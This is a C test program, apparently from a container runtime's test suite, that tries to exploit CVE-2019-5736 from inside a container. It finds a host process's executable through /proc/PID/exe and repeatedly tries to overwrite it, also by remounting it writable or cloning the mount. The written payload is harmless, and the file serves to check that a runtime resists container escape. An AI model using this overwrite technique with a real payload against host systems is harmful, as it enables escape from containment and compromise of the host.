/*
 * overwrite: CVE-2019-5736 from inside. Waits for a process whose executable is not ours, keeps that file open by
 * /proc/PID/exe, and tries every way to write to it as soon as it is not busy. Prints "overwritten", or the error of
 * each way. The test makes /started when such a process should exist, and /free when it has ended.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char payload[] = "#!/bin/sh\necho overwritten\n";

static struct stat own;

/* A busybox in our own root is no prey: only a file outside of this root's /bin is. */
static int is_prey(int fd)
{
	struct stat st, box;
	if (fstat(fd, &st) < 0 || (st.st_ino == own.st_ino && st.st_dev == own.st_dev))
		return 0;
	return stat("/bin/busybox", &box) < 0 || st.st_ino != box.st_ino || st.st_dev != box.st_dev;
}

static int find_prey(void)
{
	DIR *proc = opendir("/proc");
	int found = -1;
	for (struct dirent *e; proc && found < 0 && (e = readdir(proc));) {
		char path[300];
		(void)snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = *e->d_name >= '1' && *e->d_name <= '9' ? open(path, O_PATH) : -1;
		if (fd >= 0 && is_prey(fd))
			found = fd;
		else if (fd >= 0)
			(void)close(fd);
	}
	if (proc)
		(void)closedir(proc);
	return found;
}

static int write_by(int fd)
{
	char path[64];
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int file = open(path, O_WRONLY);
	if (file < 0)
		return errno;
	ssize_t n = write(file, payload, sizeof(payload) - 1);
	int result = n < 0 ? errno : 0;
	(void)close(file);
	return result;
}

/* If this process may mount, it tries to make the mount writable, or to make a writable copy of it. */
static int write_by_mount(int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		return write_by(fd);
	int tree = (int)syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
	if (tree < 0)
		return errno;
	(void)syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr));
	return write_by(tree);
}

/* Each try takes 5 ms. Gives up after two minutes, or after that many tries since the file was found. */
static int go_on(const char *file, long *tries, long last)
{
	if (access(file, F_OK) == 0 && *tries > last)
		*tries = last;
	(void)usleep(5000);
	return (*tries)-- > 0;
}

int main(void)
{
	int prey, result, mount;
	long tries = 24000;
	(void)stat("/proc/self/exe", &own);
	do
		prey = find_prey();
	while (prey < 0 && go_on("/started", &tries, 200));
	if (prey < 0) {
		puts("no prey");
		return 1;
	}
	puts("kept");
	(void)fflush(stdout);
	tries = 24000;
	do {
		result = write_by(prey);
		mount = result ? write_by_mount(prey) : 0;
		if (!result || !mount) {
			puts("overwritten");
			return 0;
		}
	} while (go_on("/free", &tries, result == ETXTBSY || mount == ETXTBSY ? 200 : 20));
	printf("open: %s; mount: %s\n", strerror(result), strerror(mount));
	return 1;
}
